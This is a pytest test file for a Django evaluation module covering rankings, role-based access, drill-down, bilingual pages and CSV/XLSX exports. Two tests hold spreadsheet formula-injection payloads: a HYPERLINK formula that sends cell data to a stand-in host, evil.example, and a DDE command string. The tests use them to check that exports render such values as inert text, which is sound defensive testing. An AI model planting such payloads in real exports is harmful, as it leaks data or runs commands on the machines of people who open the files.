"""Evaluation API, pages and exports: who may read what, drill-down, trends, files."""

from __future__ import annotations

import io
import re

import pytest
from django.test import Client

from server.evaluation.models import DailyRollup
from workflows.scoring_rules import default_evaluation_rules
from tests.server.conftest import module_transaction, toy_cast
from tests.server.walkplay import play

DEC = "period=month&date=2026-12"


@pytest.fixture(scope="module")
def played(django_db_setup, django_db_blocker):
    """16 walks played once for the module (each test's writes still roll back)."""
    with module_transaction(django_db_blocker):
        with django_db_blocker.unblock():
            clients = toy_cast()
            play(clients, 16)
        yield clients


@pytest.fixture
def history(played, db, hooked):
    assert DailyRollup.objects.exists()
    return played


def _rows(body, kind):
    return next(t for t in body["tables"] if t["kind"] == kind)["rows"]


def test_leader_reads_every_table_with_trends_and_the_same_from_the_log(history):
    r = history["leader"].get(f"/api/evaluation/rankings/?{DEC}")
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["period"] == {"label": "month", "start": "2026-12-01", "end": "2026-12-31",
                              "days": 31, "name": "2026-12"}
    assert body["previous"]["name"] == "2026-11"
    assert [t["kind"] for t in body["tables"]] == ["supervisor", "acceptor", "duty_chief",
                                                   "dispatcher", "department", "cell",
                                                   "community", "street", "district"]
    depts = _rows(body, "department")
    assert {d["entity"] for d in depts} <= {"roads", "water"} and depts
    assert depts[0]["name"] in ("市政管理委员会", "排水集团")
    assert all(d["trend"] in ("up", "down", "same", "none") for d in depts)
    assert len(_rows(body, "cell")) == 4  # every cell of the map, quiet ones too
    straight = history["leader"].get(f"/api/evaluation/rankings/?{DEC}&source=straight").json()
    assert straight["tables"] == body["tables"]
    rules = default_evaluation_rules()
    assert (body["rules_version"], body["rules_digest"]) == (rules.version, rules.digest)
    assert (straight["rules_version"], straight["rules_digest"]) == (rules.version, rules.digest)


def test_a_department_sees_only_its_own_row(history):
    roads = history["dept_roads"]
    body = roads.get(f"/api/evaluation/rankings/?{DEC}").json()
    assert [t["kind"] for t in body["tables"]] == ["department"]
    assert [r["entity"] for r in body["tables"][0]["rows"]] in (["roads"], [])
    assert roads.get(f"/api/evaluation/rankings/?{DEC}&kind=cell").status_code == 403
    assert roads.get(f"/api/evaluation/rankings/?{DEC}&source=straight").status_code == 400
    assert roads.get(f"/api/evaluation/cases/?{DEC}&kind=department&entity=water"
                     f"&counter=dispatched").status_code == 403
    assert roads.get(f"/api/evaluation/cases/?{DEC}&kind=department&entity=roads"
                     f"&counter=dispatched").status_code == 200
    assert history["supervisor"].get("/api/evaluation/rankings/").status_code == 403
    assert history["anonymous"].get("/api/evaluation/rankings/").status_code == 401


@pytest.mark.parametrize("query, field", [("period=year", "period"), ("date=2026-13-01", "date"),
                                          ("period=custom&start=2026-12-09&end=2026-12-01", "end"),
                                          ("kind=planet", "kind")])
def test_bad_parameters_say_why(cast, query, field):
    r = cast["leader"].get(f"/api/evaluation/rankings/?{query}")
    assert r.status_code == 400 and field in r.json()["error"]["message"]


def test_drill_down_lists_the_cases_behind_each_figure(history):
    checked = 0
    for month in ("period=month&date=2026-11", DEC):  # stocks too: each case once
        body = history["leader"].get(f"/api/evaluation/rankings/?{month}&kind=department").json()
        for row in body["tables"][0]["rows"]:
            for counter, n in row["counters"].items():
                r = history["leader"].get(f"/api/evaluation/cases/?{month}&kind=department"
                                          f"&entity={row['entity']}&counter={counter}").json()
                assert r["count"] == n == len(r["cases"]), (row["entity"], counter)
                assert all(r["why"] for r in r["cases"]) or counter in (
                    "dispatched", "postponed", "suspended", "reopened")
                checked += 1
    street = history["leader"].get(f"/api/evaluation/cases/?{DEC}&kind=street"
                                   f"&entity=110101001&counter=reported").json()
    assert street["count"] == sum(len(r["at"]) for r in street["cases"]) > 0
    assert checked > 3


def test_exports_csv_and_xlsx(history):
    from openpyxl import load_workbook

    csv = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=csv")
    assert csv.status_code == 200 and csv["Content-Type"].startswith("text/csv")
    text = csv.content.decode("utf-8")
    rules = default_evaluation_rules()
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == (f"综合评价 Evaluation,2026-12,规则版本 Rules version,{rules.version},"
                        f"规则摘要 Rules digest,{rules.digest},"
                        "发布版本 Published revision,未发布 provisional")
    assert lines[2].startswith("类别 Kind,排名 Rank") and "专业部门 Department" in text
    xlsx = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=xlsx&kind=department")
    assert 'filename="evaluation-2026-12.xlsx"' in xlsx["Content-Disposition"]
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["专业部门 Department"]
    rows = list(book.active.values)
    assert rows[1][:4] == ("规则版本 Rules version", rules.version, "规则摘要 Rules digest",
                           rules.digest)
    assert book.properties.subject == f"rules {rules.version} {rules.digest}"
    assert rows[2][:3] == ("类别 Kind", "排名 Rank", "对象 Entity") and len(rows) >= 4


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exports_write_formula_like_names_as_text_and_numbers_as_numbers(history):
    from openpyxl import load_workbook

    from server.accounts.models import Department

    # every department, so the name is in the table whichever have activity that month
    Department.objects.update(name=EVIL)
    csv = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=csv&kind=department")
    text = csv.content.decode("utf-8")
    assert "'=HYPERLINK(" in text and ',"=HYPERLINK(' not in text
    xlsx = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=xlsx&kind=department")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cell = [c for row in sheet.iter_rows(min_row=4) for c in row if c.value == EVIL][0]
    assert cell.data_type == "s" and cell.quotePrefix  # text as written, never a formula
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    row = [c.value for c in sheet[cell.row]]
    assert isinstance(row[6], int) and all(isinstance(v, (int, float)) for v in row[9:]), row


def test_which_cells_are_formula_like():
    from server.evaluation.exports import csv_cell

    for risky in ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"):
        assert csv_cell(risky) == "'" + risky
    for safe in (-0.5, -3, 0, "-0.5", "+12", "1e-3", "综合 Composite", "—", "", None):
        assert csv_cell(safe) == safe


def test_leader_pages_department_page_and_bulletin(history):
    leader, roads = Client(), Client()
    leader.force_login(history["leader"].user)
    roads.force_login(history["dept_roads"].user)
    page = leader.get(f"/evaluation/?{DEC}&kind=cell").content.decode()
    assert "综合评价" in page and "网格案件热力图" in page and "<svg" in page
    assert page.count("<path") == 4 and "ev-chart-data" in page and "/evaluation/cases/?" in page
    assert "直接由事件日志计算" in leader.get(
        f"/evaluation/?{DEC}&source=straight").content.decode()
    drill = leader.get(f"/evaluation/cases/?{DEC}&kind=street&entity=110101001&counter=filed")
    assert drill.status_code == 200 and "下钻明细" in drill.content.decode()
    bulletin = leader.get("/evaluation/bulletin/?date=2026-12").content.decode()
    assert "月度综合评价通报" in bulletin and "@page" not in bulletin and "<svg" in bulletin
    # sections numbered 一、二、三、… each once, in order
    numbers = re.findall(r"<h2>(\w)、", bulletin)
    assert numbers == list("一二三四五六七八九十")[:len(numbers)] and len(numbers) > 2, numbers
    rules = default_evaluation_rules()
    for text in (page, bulletin):
        assert f"规则版本 {rules.version}" in text and rules.digest in text
        # One language at a time: the Chinese pages carry no English labels.
        for english in ("Composite", "Rank", "ranking", "Heat map", "rules ", "Grades"):
            assert english not in text, english
    # In English, English only (names of places and people stay as they are).
    english = Client(HTTP_ACCEPT_LANGUAGE="en")
    english.force_login(history["leader"].user)
    page_en = english.get(f"/evaluation/?{DEC}&kind=cell").content.decode()
    bulletin_en = english.get("/evaluation/bulletin/?date=2026-12").content.decode()
    assert "Heat map by cell" in page_en and "Cell ranking" in page_en
    assert re.findall(r"<h2>(\d+)\. ", bulletin_en)[:3] == ["1", "2", "3"]
    for text in (page_en, bulletin_en):
        for chinese in ("综合得分", "排名", "规则版本", "热力图", "等级"):
            assert chinese not in text, chinese
    mine = roads.get(f"/evaluation/?{DEC}").content.decode()
    assert "排水集团" not in mine and "<svg" not in mine
    assert roads.get("/evaluation/bulletin/").status_code == 403
    assert roads.get(f"/evaluation/?{DEC}&kind=street").status_code == 403
    # The leader publishes November from the page's button; the page then says so.
    nov = "period=month&date=2026-11"
    assert "发布本月排名" in leader.get(f"/evaluation/?{nov}").content.decode()
    assert roads.post("/evaluation/publish/", {"date": "2026-11"}).status_code == 403
    r = leader.post("/evaluation/publish/", {"date": "2026-11", "kind": "cell"})
    assert r.status_code == 302 and "kind=cell" in r["Location"]
    assert "第 1 版" in leader.get(f"/evaluation/?{nov}").content.decode()
